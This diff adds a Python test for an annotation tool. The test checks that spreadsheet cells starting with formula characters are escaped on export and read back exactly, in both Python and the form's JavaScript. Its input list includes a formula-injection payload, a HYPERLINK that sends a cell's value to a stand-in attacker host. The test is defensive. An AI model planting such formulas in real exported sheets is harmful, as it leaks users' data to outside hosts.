@@ -252,6 +252,58 @@ def test_values_outside_the_rubric_name_file_row_and_column(tmp_path, key, chang
     assert str(path) in str(error.value)
 
 
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A2)", "\tTabbed",
+                 "\rReturn", "'quoted", "''twice", "'=marked already", "'plain", "plain", "a=b"]
+
+
+def test_sheet_cells_that_a_spreadsheet_would_run_are_marked_and_read_back_exactly(tmp_path, key):
+    """Texts beginning with = + - @ tab CR or ' are written behind a ' (so a spreadsheet shows
+    text) by the blank sheet and the form's download alike; the import drops that mark only."""
+    import csv
+    import shutil
+    import subprocess
+
+    from bloomqg.annotation.form import sheet_cell, sheet_text, write_blank_sheet
+
+    marked = [sheet_cell(text) for text in FORMULA_TEXTS]
+    assert [cell[0] for cell in marked[:-2]] == ["'"] * (len(FORMULA_TEXTS) - 2) and marked[-2:] == FORMULA_TEXTS[-2:]
+    assert [sheet_text(cell) for cell in marked] == FORMULA_TEXTS
+    # The blank sheet: a generated question and an original that begin like formulas are marked.
+    hostile = key.copy()
+    hostile["new_question"] = FORMULA_TEXTS[:len(hostile)]
+    hostile["original_question"] = list(reversed(FORMULA_TEXTS))[:len(hostile)]
+    sheet_path = tmp_path / "blank.csv"
+    write_blank_sheet(hostile, sheet_path)
+    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    for row, item in zip(cells, hostile.itertuples(index=False)):
+        for column, text in (("new_question", item.new_question), ("original_question", item.original_question)):
+            assert row[column][0] not in "=+-@\t\r" and row[column] == sheet_cell(text)
+    # Filled in (a note that begins like a formula too) and imported: every text as it was.
+    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    header = rows[0]
+    first = rows[1]
+    for column, value in {**FULL, "annotator": "ann1", "notes": sheet_cell("=1+1 looks odd")}.items():
+        first[header.index(column)] = value
+    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    ratings = read_sheets([tmp_path / "filled.csv"], hostile)
+    assert set(ratings["notes"]) == {"=1+1 looks odd"}
+    # The form's download uses the same rule: its sheetCell, run in Node where it is installed.
+    node = shutil.which("node")
+    if node:
+        html = render_form(hostile, title="t")
+        meta = html.split('id="meta">', 1)[1].split("</script>", 1)[0]
+        function = next(line for line in html.splitlines() if "function sheetCell(" in line)
+        script = (f"const meta = JSON.parse({json.dumps(meta)});\n{function}\n"
+                  "const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
+                  "process.stdout.write(JSON.stringify(texts.map(sheetCell)));")
+        shown = subprocess.run([node, "-e", script], input=json.dumps(FORMULA_TEXTS), capture_output=True,
+                               text=True, check=True).stdout
+        assert json.loads(shown) == marked
+
+
 def test_unknown_item_and_repeated_annotator_are_errors(tmp_path, key):
     path = _write_sheet(tmp_path / "a.csv", key, {"A0001": FULL}, "ann1")
     text = path.read_text().replace("A0001", "A9999")
